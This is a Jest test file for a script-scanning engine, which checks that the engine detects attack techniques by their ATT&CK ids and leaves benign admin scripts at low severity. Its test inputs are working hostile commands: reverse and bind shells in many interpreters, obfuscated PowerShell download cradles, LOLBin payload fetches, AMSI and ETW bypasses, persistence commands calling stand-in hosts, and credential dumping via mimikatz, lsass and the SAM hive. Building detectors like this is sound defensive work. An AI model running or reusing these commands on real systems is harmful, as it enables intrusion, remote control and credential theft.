/**
 * Script detection by technique: every named shape, written here by hand (no third-party
 * samples), must be found with its ATT&CK technique id; hard benign admin scripts must not be
 * flagged above low.
 */
import { analyzeScriptText } from '../../../../src/scan/engines/script';
import { scriptViews } from '../../../../src/scan/engines/script-normalize';

const worst = (text: string) => {
  const { findings } = analyzeScriptText(text);
  const order = ['info', 'low', 'medium', 'high', 'critical'];
  return findings.reduce((a, f) => (order.indexOf(f.severity) > order.indexOf(a) ? f.severity : a), 'info');
};
const technique = (text: string, id: string) => analyzeScriptText(text).findings.find((f) => f.id === `script.technique.${id}`);

describe('reverse and bind shells, one per interpreter', () => {
  it.each([
    ['bash', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', 'revshell.bash_dev_tcp', 'T1059.004'],
    ['bash exec fd', 'exec 5<>/dev/tcp/attacker.example/443; cat <&5 | while read l; do $l 2>&5 >&5; done', 'revshell.bash_dev_tcp', 'T1059.004'],
    ['bash via variables', 'H=10.1.1.1\nP=9001\nsh -i >& /dev/tcp/$H/$P 0>&1', 'revshell.bash_dev_tcp', 'T1059.004'],
    ['nc -e', 'nc 10.0.0.5 4444 -e /bin/bash', 'revshell.netcat_exec', 'T1059.004'],
    ['ncat --exec', 'ncat --exec cmd.exe 10.0.0.5 4444', 'revshell.netcat_exec', 'T1059.004'],
    ['nc fifo', 'rm /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/q', 'revshell.fifo_pipe', 'T1059.004'],
    ['python', 'python3 -c \'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'', 'revshell.python', 'T1059.006'],
    ['perl', 'perl -e \'use Socket;$i="10.0.0.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'', 'revshell.perl', 'T1059'],
    ['php', 'php -r \'$sock=fsockopen("10.0.0.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'revshell.php', 'T1059'],
    ['ruby', 'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'', 'revshell.ruby', 'T1059'],
    ['awk', 'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.5/4444"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }\' /dev/null', 'revshell.awk', 'T1059.004'],
    ['lua', 'lua -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'10.0.0.5\',\'4444\');os.execute(\'/bin/sh -i <&3 >&3 2>&3\');"', 'revshell.lua', 'T1059'],
    ['node', '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.5",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();', 'revshell.node', 'T1059.007'],
    ['openssl', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.5:4444 > /tmp/s; rm /tmp/s', 'revshell.openssl', 'T1573.002'],
    ['telnet', 'telnet 10.0.0.5 4444 | /bin/bash | telnet 10.0.0.5 4445', 'revshell.telnet_pipe', 'T1059.004'],
    ['socat', 'socat tcp-connect:10.0.0.5:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane', 'revshell.socat', 'T1059.004'],
    ['powershell', '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.5",4444);$stream = $client.GetStream();while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object Text.ASCIIEncoding).GetString($bytes,0,$i);$sendback = (iex $data 2>&1 | Out-String )}', 'revshell.powershell', 'T1059.001'],
    ['bind nc', 'nc -lvnp 4444 -e /bin/sh', 'bindshell.listener', 'T1059.004'],
  ])('%s', (_n, text, id, tech) => {
    const f = technique(text, id);
    expect(f).toBeDefined();
    expect(f?.name.startsWith(tech)).toBe(true);
    expect(f?.severity).toBe('critical');
  });
});

describe('download cradles and obfuscation', () => {
  it('a PowerShell cradle written through variables', () => {
    const f = technique('$c=New-Object Net.WebClient;$s=$c.DownloadString("http://10.0.0.5/a.ps1");IEX $s', 'cradle.powershell');
    expect(f?.name).toMatch(/^T1105/);
    expect(f?.severity).toBe('high');
  });
  it('a cradle hidden by backticks, concatenation and case', () => {
    expect(technique("I`E`X (New-Object Net.WebClient).('Down'+'loadStr'+'ing')('http://10.0.0.5/x')", 'cradle.powershell')).toBeDefined();
  });
  it('a cradle built from a char-code array', () => {
    const codes = [...'IEX (New-Object Net.WebClient).DownloadString("http://h/x")'].map((c) => `[char]${c.charCodeAt(0)}`).join('+');
    expect(technique(`& (${codes})`, 'cradle.powershell')).toBeDefined();
  });
  it('a cradle inside -EncodedCommand (UTF-16LE base64)', () => {
    const b64 = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/x")', 'utf16le').toString('base64');
    const f = technique(`powershell.exe -nop -w hidden -enc ${b64}`, 'cradle.powershell');
    expect(f?.description).toMatch(/encodedcommand/);
    expect(technique(`powershell.exe -nop -w hidden -enc ${b64}`, 'exec.encoded_powershell')).toBeDefined();
  });
  it('a reverse shell inside echo | base64 -d | sh', () => {
    const b64 = Buffer.from('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1').toString('base64');
    expect(technique(`echo ${b64} | base64 -d | sh`, 'revshell.bash_dev_tcp')?.description).toMatch(/base64/);
  });
  it('curl from a bare IP piped into a shell is high; from a named https host it is low', () => {
    expect(technique('curl -s http://10.0.0.5/x.sh | bash', 'cradle.shell_pipe_shady')?.severity).toBe('high');
    expect(worst('curl -fsSL https://get.example-tool.dev/install.sh | sh')).toBe('low');
  });
  it('download to /tmp, chmod and run', () => {
    expect(technique('wget -q https://x.example/b -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b &', 'cradle.temp_chmod_exec')).toBeDefined();
  });
});

describe('LOLBins, reflective load, tampering, persistence, credentials', () => {
  it.each([
    ['mshta', 'mshta.exe http://10.0.0.5/run.hta', 'lolbin.mshta', 'T1218.005'],
    ['mshta inline', 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")', 'lolbin.mshta', 'T1218.005'],
    ['rundll32 js', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://10.0.0.5/x.sct")', 'lolbin.rundll32', 'T1218.011'],
    ['rundll32 share', 'rundll32 \\\\10.0.0.5\\share\\payload.dll,EntryPoint', 'lolbin.rundll32', 'T1218.011'],
    ['regsvr32', 'regsvr32 /s /n /u /i:http://10.0.0.5/file.sct scrobj.dll', 'lolbin.regsvr32', 'T1218.010'],
    ['certutil', 'certutil.exe -urlcache -split -f http://10.0.0.5/p.exe p.exe', 'lolbin.certutil_download', 'T1105'],
    ['bitsadmin', 'bitsadmin /transfer job /download /priority high http://10.0.0.5/p.exe C:\\Users\\Public\\p.exe', 'lolbin.bitsadmin', 'T1197'],
    ['reflective load', '$b = (New-Object Net.WebClient).DownloadData("http://10.0.0.5/a.dll"); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)', 'exec.reflective_load', 'T1620'],
    ['reflective base64', '[System.Reflection.Assembly]::Load([Convert]::FromBase64String($payload))', 'exec.reflective_load', 'T1620'],
    ['amsi', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", 'evasion.amsi', 'T1562.001'],
    ['amsi concat', "[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUt'+'ils')", 'evasion.amsi', 'T1562.001'],
    ['etw', '$p = GetProcAddress(LoadLibrary("ntdll.dll"), "EtwEventWrite"); VirtualProtect($p, 1, 0x40, [ref]$o); WriteByte($p, 0xC3)', 'evasion.etw', 'T1562.006'],
    ['wmi persistence', '$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name="u"}; Set-WmiInstance -Class CommandLineEventConsumer -Arguments @{CommandLineTemplate="powershell -enc AAAA"}', 'persist.wmi_subscription', 'T1546.003'],
    ['mimikatz', 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"', 'cred.mimikatz', 'T1003.001'],
    ['lsass dump', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 'cred.lsass_dump', 'T1003.001'],
    ['sam hive', 'reg save HKLM\\SAM C:\\temp\\sam.save', 'cred.sam_hive', 'T1003.002'],
  ])('%s', (_n, text, id, tech) => {
    const f = technique(text, id);
    expect(f).toBeDefined();
    expect(f?.name.startsWith(tech)).toBe(true);
  });

  it.each([
    ['cron', '(crontab -l; echo "*/5 * * * * curl -s http://10.0.0.5/x | sh") | crontab -', 'persist.cron', 'T1053.003'],
    ['run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "mshta http://10.0.0.5/x.hta"', 'persist.run_key', 'T1547.001'],
    ['schtasks', 'schtasks /create /sc minute /tn upd /tr "powershell -w hidden -ep bypass -c IEX(New-Object Net.WebClient).DownloadString(\'http://10.0.0.5/a\')"', 'persist.schtasks', 'T1053.005'],
    ['service', 'sc create updsvc binPath= "cmd /c certutil -urlcache -f http://10.0.0.5/s.exe %TEMP%\\s.exe" start= auto', 'persist.service', 'T1543.003'],
  ])('persistence next to an offensive technique is high: %s', (_n, text, id, tech) => {
    const f = technique(text, id);
    expect(f?.name.startsWith(tech)).toBe(true);
    expect(f?.severity).toBe('high');
  });
});

describe('hard benign admin scripts stay at low or below', () => {
  it.each([
    ['installer with checksum', '#!/bin/sh\nset -eu\nURL="https://releases.example.org/tool/v1.2.3/tool-linux-amd64.tar.gz"\ncurl -fsSL "$URL" -o /tmp/tool.tgz\necho "3b1f...  /tmp/tool.tgz" | sha256sum -c -\ntar -xzf /tmp/tool.tgz -C /usr/local/bin\n'],
    ['base64 config', '#!/bin/bash\nkubectl get secret db -o jsonpath="{.data.password}" | base64 -d > /run/secrets/db\nchmod 600 /run/secrets/db\n'],
    ['backup cron', '#!/bin/sh\n(crontab -l 2>/dev/null; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -\n'],
    ['windows update task', 'Register-ScheduledTask -TaskName "Nightly cleanup" -Action (New-ScheduledTaskAction -Execute "cleanmgr.exe" -Argument "/sagerun:1") -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)'],
    ['msi download', '$msi = "$env:TEMP\\agent.msi"\nInvoke-WebRequest -Uri "https://downloads.example.com/agent/agent-2.4.msi" -OutFile $msi\nStart-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn" -Wait\n'],
    ['base64 cert', '$bytes = [Convert]::FromBase64String($certB64)\n[IO.File]::WriteAllBytes("C:\\certs\\root.cer", $bytes)\nImport-Certificate -FilePath C:\\certs\\root.cer -CertStoreLocation Cert:\\LocalMachine\\Root\n'],
    ['netcat port check', 'if nc -z -w 2 db.internal 5432; then echo up; fi'],
    ['service install', 'New-Service -Name "MetricsAgent" -BinaryPathName "C:\\Program Files\\Metrics\\agent.exe" -StartupType Automatic'],
  ])('%s', (_n, text) => {
    expect(['info', 'low']).toContain(worst(text));
  });
});

describe('normalisation', () => {
  it('keeps every view linear-sized and lower-cased', () => {
    const views = scriptViews("W`rite-Host ('a'+'b')");
    expect(views.map((v) => v.via)).toContain('deobfuscated');
    expect(views.find((v) => v.via === 'deobfuscated')?.text).toContain("write-host ('ab')");
  });
});
